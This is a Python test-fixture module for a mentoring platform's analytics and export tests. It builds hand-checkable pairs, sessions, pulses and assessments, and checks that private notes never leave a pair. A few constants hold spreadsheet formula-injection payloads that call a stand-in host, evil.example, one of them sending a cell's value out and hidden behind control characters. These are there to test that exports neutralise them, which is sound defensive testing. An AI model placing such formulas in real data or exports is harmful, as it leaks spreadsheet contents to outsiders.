"""Builders for the analytics tests (the suite-wide ones live in tests/factories).

* Assessments and a mentee's baseline, for the needs heat map.
* Small, hand-checkable programme results: pairs, sessions, pulses, check-ins, assessments,
  objectives, ideas. Rows are created directly (not through the domain functions) so that
  each test states the exact figures it checks, whatever the dates.
* A pair whose data tries every trap an export can fall into: formulas in names and
  comments, accents, and notes (and a private pulse comment) that must never leave the pair;
  and the readers of the files exported.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import factory
import openpyxl
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from rementor.api.tokens import create_token
from rementor.matching.models import Pair, PairStatus
from rementor.mentoring.models import (
    CheckIn,
    Concern,
    Idea,
    MentoringSession,
    Objective,
    ObjectiveChange,
    ObjectiveOwner,
    PairMessage,
    PrivateNote,
    Pulse,
    SessionStatus,
)
from rementor.programmes.models import EnrollmentStatus, Role
from rementor.skills.models import Assessment, AssessmentItem, AssessmentKind, Skill
from tests.factories import DepartmentFactory, EnrollmentFactory, PersonFactory, client_for
from tests.rementor.mentoring import factories as mentoring_factories

# --------------------------------------------------------------------------- assessments


class AssessmentFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = Assessment

    enrollment = factory.SubFactory(EnrollmentFactory, role=Role.MENTEE)
    kind = AssessmentKind.BASELINE
    submitted_at = factory.LazyFunction(timezone.now)


class AssessmentItemFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = AssessmentItem

    assessment = factory.SubFactory(AssessmentFactory)
    level = 1
    target = 3
    priority = 2


def mentee_with_baseline(
    *,
    programme,
    department: str | None,
    answers: dict,
    site: str = "Paris",
    submitted: bool = True,
    **enrollment,
) -> Assessment:
    """A mentee of ``department`` (a name; None: no department) at ``site`` whose baseline
    holds ``answers``: {skill: (level, target, priority)}."""
    person = PersonFactory(
        department=DepartmentFactory(name=department) if department else None, site=site
    )
    assessment = AssessmentFactory(
        enrollment=EnrollmentFactory(
            programme=programme, person=person, role=Role.MENTEE, **enrollment
        ),
        submitted_at=timezone.now() if submitted else None,
    )
    AssessmentItem.objects.bulk_create(
        AssessmentItem(assessment=assessment, skill=skill, level=level, target=target, priority=p)
        for skill, (level, target, p) in answers.items()
    )
    return assessment


# --------------------------------------------------------------------------- results


def person(department: str | None = "Finance", site: str = "Paris", **names):
    return PersonFactory(
        department=DepartmentFactory(name=department) if department else None, site=site, **names
    )


def enrol(programme, role, *, status=EnrollmentStatus.ACCEPTED, **person_kwargs):
    return EnrollmentFactory(
        programme=programme, person=person(**person_kwargs), role=role, status=status
    )


def pair_row(
    programme,
    *,
    status=PairStatus.ACTIVE,
    mentee: dict | None = None,
    mentor: dict | None = None,
) -> Pair:
    """A pair row between two new enrolments (departments and sites as given), written
    directly: the figures need many pairs fast, not matching's checks."""
    return Pair.objects.create(
        programme=programme,
        mentee=enrol(programme, Role.MENTEE, **(mentee or {})),
        mentor=enrol(programme, Role.MENTOR, **(mentor or {})),
        place=1,
        mentor_capacity=1,
        status=status,
    )


def held_with_pulses(pair, *, days_ago: int = 3, minutes: int = 60, pulses=()) -> MentoringSession:
    """A held session; ``pulses``: (usefulness, comfort) of the mentee, then of the mentor."""
    session = MentoringSession.objects.create(
        pair=pair,
        starts_at=timezone.now() - dt.timedelta(days=days_ago),
        duration_minutes=minutes,
        status=SessionStatus.HELD,
    )
    for author, (usefulness, comfort) in zip((pair.mentee, pair.mentor), pulses, strict=False):
        Pulse.objects.create(session=session, author=author, usefulness=usefulness, comfort=comfort)
    return session


def check_in(pair, *, kind="final", mentee: int | None = None, mentor: int | None = None):
    for author, recommend in ((pair.mentee, mentee), (pair.mentor, mentor)):
        if recommend is not None:
            CheckIn.objects.create(
                pair=pair,
                author=author,
                kind=kind,
                progress=3,
                relationship=4,
                pace=3,
                recommend=recommend,
            )


def assess(enrollment, kind, answers: dict) -> Assessment:
    """``answers``: {skill: (level, target, priority)}."""
    assessment = Assessment.objects.create(
        enrollment=enrollment, kind=kind, submitted_at=timezone.now()
    )
    AssessmentItem.objects.bulk_create(
        AssessmentItem(assessment=assessment, skill=skill, level=lv, target=t, priority=p)
        for skill, (lv, t, p) in answers.items()
    )
    return assessment


def baseline_and_final(pair, baseline: dict, final: dict) -> None:
    assess(pair.mentee, AssessmentKind.BASELINE, baseline)
    assess(pair.mentee, AssessmentKind.FINAL, final)


def mentor_objective(pair, *, area="leadership", progress=50, status="in_progress"):
    return Objective.objects.create(
        pair=pair,
        owner=ObjectiveOwner.MENTOR,
        title="Animer une réunion",
        area=area,
        progress=progress,
        status=status,
    )


def idea(pair, department: str | None):
    return Idea.objects.create(
        pair=pair,
        title="Idée",
        description="Une idée",
        department=DepartmentFactory(name=department) if department else None,
    )


def seven_mentees(programme, skill) -> list[Pair]:
    """Small groups a sponsor must not see: seven pairs whose mentees answered the final
    check-in (the two oldest answers 3 out of 10, detractors; then five 10s) with their final
    self-assessment, and two mentees invited who declined (9 invited, 7 enrolled: "(−2)")."""
    pairs = []
    for index in range(7):
        pair = pair_row(
            programme, mentee={"department": "Finance"}, mentor={"department": "Finance"}
        )
        held_with_pulses(pair, days_ago=3, pulses=[(4, 5), (5, 4)])
        assess(pair.mentee, AssessmentKind.BASELINE, {skill: (1, 3, 2)})
        assess(pair.mentee, AssessmentKind.FINAL, {skill: (1 + index % 3, 3, 2)})
        check_in(pair, mentee=3 if index < 2 else 10)
        pairs.append(pair)
    for _ in range(2):
        enrol(programme, Role.MENTEE, status=EnrollmentStatus.DECLINED)
    return pairs


def answered_pairs(programme, skill, *, count: int = 11, answered: int = 10) -> list[Pair]:
    """``count`` pairs; the first ``answered`` gave the final check-in (mentees half 10s, then
    half 8s; mentors half 5s, then half 9s) and the mentee's final self-assessment."""
    pairs = []
    for index in range(count):
        pair = pair_row(
            programme, mentee={"department": "Finance"}, mentor={"department": "Finance"}
        )
        held_with_pulses(pair, days_ago=3, pulses=[(4, 5), (5, 4)])
        assess(pair.mentee, AssessmentKind.BASELINE, {skill: (1, 3, 2)})
        if index < answered:
            first_half = index < answered // 2
            assess(pair.mentee, AssessmentKind.FINAL, {skill: (1 + index % 3, 3, 2)})
            check_in(pair, mentee=10 if first_half else 8, mentor=5 if first_half else 9)
        pairs.append(pair)
    return pairs


# --------------------------------------------------------------------------- exports


# Each appears once in the database and must appear in no export or report.
SHARED_MARKER = "SHARED-NOTE-7f3a"
PRIVATE_MARKER = "PRIVATE-NOTE-9c1e"
AGENDA_MARKER = "AGENDA-42bd"
CONCERN_MARKER = "CONCERN-5e0d"
# A pulse comment its author kept private: never in a manager's file.
PRIVATE_PULSE_MARKER = "PRIVATE-PULSE-3b8d"
# A message of the pair's thread: its members' alone.
MESSAGE_MARKER = "PAIR-MESSAGE-61d0"
FORMULA = '=HYPERLINK("http://evil.example","x")'
MARKERS = (
    SHARED_MARKER,
    PRIVATE_MARKER,
    AGENDA_MARKER,
    CONCERN_MARKER,
    PRIVATE_PULSE_MARKER,
    MESSAGE_MARKER,
)


def exported_pair(**kwargs):
    """An active pair with a held and a planned session, notes, pulses and objectives.
    Returns (pair, mentee_user, mentor_user)."""
    pair, mentee_user, mentor_user = mentoring_factories.make_pair(**kwargs)
    # The sessions and target dates below are fixed (the exports show them as written):
    # so are the dates of the programme they belong to.
    programme = pair.programme
    programme.start_date, programme.end_date = dt.date(2026, 9, 1), dt.date(2027, 3, 31)
    programme.save(update_fields=["start_date", "end_date"])
    mentee_person = pair.mentee.person
    mentee_person.first_name = FORMULA
    mentee_person.last_name = "Zoé"
    mentee_person.save()
    mentor_person = pair.mentor.person
    mentor_person.first_name = "Éléonore"
    mentor_person.last_name = "Lefèvre"
    mentor_person.save()

    start = timezone.make_aware(dt.datetime(2026, 10, 5, 14, 30), dt.UTC)
    session = MentoringSession.objects.create(
        pair=pair,
        starts_at=start,
        duration_minutes=45,
        status="held",
        agenda=AGENDA_MARKER,
        shared_notes=SHARED_MARKER,
    )
    MentoringSession.objects.create(
        pair=pair, starts_at=start + dt.timedelta(days=21), status="planned"
    )
    PrivateNote.objects.create(session=session, author=mentee_user, text=PRIVATE_MARKER)
    Pulse.objects.create(
        session=session,
        author=pair.mentee,
        usefulness=5,
        comfort=4,
        comment="-1 point: trop court",
        comment_shared=True,
    )
    Pulse.objects.create(
        session=session, author=pair.mentor, usefulness=4, comfort=5, comment=PRIVATE_PULSE_MARKER
    )
    objective = Objective.objects.create(
        pair=pair,
        owner="mentee",
        title="@Publier sur LinkedIn",
        skill=Skill.objects.get(code="linkedin"),
        status="in_progress",
        progress=40,
        target_date=dt.date(2026, 12, 1),
    )
    ObjectiveChange.objects.create(objective=objective, reason="trop ambitieux")
    ObjectiveChange.objects.create(objective=objective, reason="recentré")
    Objective.objects.create(pair=pair, owner="mentor", title="Animer", area="leadership")
    Concern.objects.create(pair=pair, author=mentor_user, text=CONCERN_MARKER)
    PairMessage.objects.create(pair=pair, author=mentee_user, text=MESSAGE_MARKER)
    return pair, mentee_user, mentor_user


# A formula hidden behind a control character (or a non-breaking space and one), as a
# participant could type it in a page form or send it through the API.
HOSTILE_PAGE = '\u0001=HYPERLINK("http://evil.example/?page="&B2,"Click")'
HOSTILE_API = '\u00a0\u0001=HYPERLINK("http://evil.example/?api="&B2,"Click")'


def hostile_entries():
    """A held session's pair whose mentee writes an objective title, a shared pulse comment
    and an idea title through the page forms, and whose mentor writes the same through the
    API, each a formula behind a control character. Returns the pair."""
    pair, mentee_user, mentor_user = mentoring_factories.make_pair()
    session = mentoring_factories.held(pair, mentor_user)
    page = client_for(mentee_user)
    for name, data in (
        (
            "mentoring:objective_create",
            {
                "owner": "mentee",
                "title": HOSTILE_PAGE,
                "skill": Skill.objects.get(code="linkedin").pk,
                "target_date": str(pair.programme.start_date + dt.timedelta(days=75)),
            },
        ),
        ("mentoring:idea_create", {"title": HOSTILE_PAGE, "description": "x"}),
    ):
        assert page.post(reverse(name, args=[pair.pk]), data).status_code == 302
    response = page.post(
        reverse("mentoring:pulse", args=[session.pk]),
        {"usefulness": "4", "comfort": "4", "comment": HOSTILE_PAGE, "comment_shared": "on"},
    )
    assert response.status_code == 302
    _token, secret = create_token(user=mentor_user, name="tests")
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {secret}")
    for url, data in (
        ("/api/v1/objectives/", {"owner": "mentor", "title": HOSTILE_API, "area": "pedagogy"}),
        ("/api/v1/ideas/", {"title": HOSTILE_API, "description": "x"}),
    ):
        response = api.post(url, {"pair": pair.pk, **data}, format="json")
        assert response.status_code == 201, response.content
    response = api.post(
        "/api/v1/pulses/",
        {
            "session": session.pk,
            "usefulness": 4,
            "comfort": 4,
            "comment": HOSTILE_API,
            "comment_shared": True,
        },
        format="json",
    )
    assert response.status_code == 201, response.content
    return pair


def read_csv(content: bytes, *, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def read_xlsx(content: bytes) -> dict[str, list[list[object]]]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return {ws.title: [list(row) for row in ws.iter_rows(values_only=True)] for ws in workbook}
